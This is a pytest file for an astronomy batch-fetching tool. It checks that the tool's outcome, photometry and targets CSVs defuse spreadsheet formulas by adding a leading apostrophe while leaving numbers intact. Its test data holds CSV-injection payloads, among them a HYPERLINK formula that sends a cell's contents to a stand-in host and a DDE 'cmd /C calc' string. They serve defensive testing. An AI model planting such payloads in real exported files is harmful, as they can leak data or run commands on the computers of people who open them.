"""Every CSV atlasbatch writes is safe to open in a spreadsheet: formulas become text."""

from __future__ import annotations

import csv
import hashlib
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atlasbatch._cli.orphans import seed_adopted_run
from atlasbatch._ledger.ledger import Ledger
from atlasbatch._models import Outcome, State, Target
from atlasbatch._outputs.csv_cells import csv_cell, neutralise, neutralise_table
from atlasbatch._outputs.filenames import FileNames
from atlasbatch._outputs.outcomes import PhotometryTableWriter, write_outcomes_csv
from atlasbatch.cli import main
from atlasbatch.testing import Emulator

from .helpers import fast, write_csv

Factory = Callable[..., Emulator]
FAST = fast(task_seconds=0.01)  # the CLI is told the rates, never the task time
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
DANGEROUS = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)",
             "\t=1", "\r=1", "=", "-", "+", "-inf", "--1", "-1,5"]  # fmt: skip
NUMBERS = ["-1.5", "+3", "-0.25e-3", "-1", "+.5", "-7.", "1e5", "-2E+10"]
HARMLESS = ["SN 2023ixf", "", "a=b", " =1", "'=1", "x-1", "1-2"]


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: formula-like cells are numbers or start with '."""
    for row in rows:
        for cell in row:
            if FORMULA.match(cell):
                float(cell)  # raises for anything but a number (typed "-inf" is one too)


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS + HARMLESS)
def test_numbers_and_plain_text_are_left_as_they_are(text: str) -> None:
    assert neutralise(text) == text
    assert csv_cell(text) == text


def test_typed_values_are_written_as_numbers() -> None:
    assert [csv_cell(v) for v in (None, -1.5, -0.25e-3, -3, 0.1, float("-inf"))] == [
        "", "-1.5", "-0.00025", "-3", "0.1", "-inf",
    ]  # fmt: skip


@given(st.lists(st.one_of(st.none(), st.text(max_size=12), st.sampled_from(DANGEROUS + NUMBERS))))
def test_the_arrow_path_applies_the_same_rule(values: list[str | None]) -> None:
    table = pa.table({"text": pa.array(values, pa.string()), "n": pa.array([1.5] * len(values))})

    out = neutralise_table(table)

    expected = [None if v is None else neutralise(v) for v in values]
    assert out.column("text").to_pylist() == expected
    assert out.column("n").to_pylist() == [1.5] * len(values)


@given(st.text(max_size=20))
def test_neutralising_only_ever_adds_one_apostrophe(text: str) -> None:
    safe = neutralise(text)

    assert safe in (text, "'" + text)
    assert not FORMULA.match(safe) or NUMBER.fullmatch(safe)


def target(line: int, name: str, **extra: str) -> Target:
    return Target(line=line, name=name, ra=-12.5, dec=-0.25, mpc_name=None, mjd_min=None,
                  mjd_max=None, use_reduced=False, extra=extra)  # fmt: skip


def test_outcomes_csv_neutralises_names_errors_and_pass_through_cells(tmp_path: Path) -> None:
    outcomes = [
        Outcome(target=target(2, "=cmd()", **{"@h": "-2.5", "note": "+x"}), state=State.FAILED,
                error="-server said no"),
        Outcome(target=target(3, "-1", **{"@h": "@x", "note": "+3"}), state=State.NO_DATA),
    ]  # fmt: skip

    write_outcomes_csv(tmp_path / "o.csv", outcomes, extra_columns=["@h", "note"])

    header, first, second = read_rows(tmp_path / "o.csv")
    assert header[-2:] == ["'@h", "note"]
    assert first[1] == "'=cmd()" and first[4] == "'-server said no"
    assert first[6:8] == ["-12.5", "-0.25"]  # numbers stay numbers
    assert first[-2:] == ["-2.5", "'+x"]
    assert second[1] == "-1" and second[-2:] == ["'@x", "+3"]
    assert_no_formula([header, first, second])


def test_photometry_csv_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"MJD": [60000.5], "uJy": [-120], "duJy": [30], "F": ["o"]})
    parquet, csv_path = tmp_path / "p.parquet", tmp_path / "p.csv"
    with PhotometryTableWriter(parquet, extra_columns=["@h"], csv_path=csv_path) as table:
        table.add(target(2, '=HYPERLINK("x")', **{"@h": "-2.5"}), frame, task_id=7,
                  server="http://127.0.0.1", fetched_at=datetime.now(UTC))  # fmt: skip

    rows = read_rows(csv_path)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["target"] == '\'=HYPERLINK("x")'
    assert cells["'@h"] == "-2.5"
    assert cells["uJy"] == "-120" and cells["input_ra"] == "-12.5"
    assert_no_formula(rows)
    kept = pd.read_parquet(parquet)  # the Parquet table keeps the exact values
    assert list(kept["target"]) == ['=HYPERLINK("x")'] and "@h" in kept.columns


def test_the_orphans_targets_csv_is_neutralised(tmp_path: Path) -> None:
    task = {"id": 41, "ra": None, "dec": None, "mpc_name": "=evil", "mjd_min": -1.5,
            "mjd_max": None, "use_reduced": False, "comment": "atlasbatch:r1:1"}  # fmt: skip
    ledger = Ledger(None)

    seed_adopted_run(ledger, "r1", [task], tmp_path)

    header, row = read_rows(tmp_path / "targets.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["mpc_name"] == "'=evil" and cells["mjd_min"] == "-1.5"
    assert cells["name"] == "task41" and cells["tag"] == "atlasbatch:r1:1"


# --- end to end: the CLI over loopback ---------------------------------------------------

#: What the old sanitiser named "a b": a target literally called that shared its file.
OLD_STEM = "a_b_" + hashlib.sha256(b"a b").hexdigest()[:10]
#: A target literally called what "a/b" becomes.
TAKEN = FileNames(["a/b"]).stem("a/b")
NAMES = ["a b", OLD_STEM, "a/b", TAKEN, "Foo", "foo", '=HYPERLINK("x")', "-1", "+3"]
NOTES = ["=1+1", "-2.5", "@SUM(A1)", "+x", "-0.25e-3", "plain", "-cmd", "+3", ""]


def rows_for(names: list[str]) -> list[dict[str, object]]:
    """One row per name, each at its own position (1 degree apart: its own photometry)."""
    window = {"mjd_min": 60000, "mjd_max": 60060}
    return [
        {"name": name, "ra": 10.0 + i, "dec": 20.0, **window, "note": note}
        for i, (name, note) in enumerate(zip(names, NOTES, strict=True))
    ]


def fetch(emu: Emulator, targets: Path, out: Path, *extra: str) -> int:
    args = ["fetch", str(targets), "--out", str(out), "--base-url", emu.base_url,
            "--write-rate", str(FAST["write_rate"]), "--read-rate", str(FAST["read_rate"]),
            "--no-plots", *extra]  # fmt: skip
    return main(args)


def test_a_run_gives_every_target_its_own_file_and_spreadsheet_safe_tables(
    atlas_emulator_factory: Factory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    emu = atlas_emulator_factory(**FAST)
    monkeypatch.setenv("ATLAS_TOKEN", emu.token)
    out, ref = tmp_path / "run", tmp_path / "ref"
    plain = [f"r{i}" for i in range(len(NAMES))]  # the same positions under plain names

    assert fetch(emu, write_csv(tmp_path / "t.csv", rows_for(NAMES)), out, "--csv") == 0
    assert fetch(emu, write_csv(tmp_path / "r.csv", rows_for(plain)), ref) == 0

    header, *rows = read_rows(out / "outcomes.csv")
    paths = [dict(zip(header, row, strict=True))["path"] for row in rows]
    assert paths == [str(FileNames(NAMES).lightcurve(name)) for name in NAMES]
    assert len({path.casefold() for path in paths}) == len(NAMES)  # one file per target
    for path, reference in zip(paths, plain, strict=True):  # holding that target's photometry
        assert (out / path).read_bytes() == (ref / "lightcurves" / f"{reference}.txt").read_bytes()
    assert len(list((out / "lightcurves").iterdir())) == len(NAMES)
    assert_no_formula([header, *rows])
    names = [dict(zip(header, row, strict=True))["name"] for row in rows]
    assert names == [*NAMES[:6], '\'=HYPERLINK("x")', "-1", "+3"]
    notes = [dict(zip(header, row, strict=True))["note"] for row in rows]
    assert notes == ["'=1+1", "-2.5", "'@SUM(A1)", "'+x", "-0.25e-3", "plain", "'-cmd", "+3", ""]

    table = read_rows(out / "photometry.csv")
    assert_no_formula(table)
    columns = table[0]
    shown = {row[columns.index("target")] for row in table[1:]}
    assert shown == {*NAMES[:6], '\'=HYPERLINK("x")', "-1", "+3"}
    assert any(row[columns.index("uJy")].startswith("-") for row in table[1:])  # numbers kept
    assert emu.stats()["tasks_live"] == 0
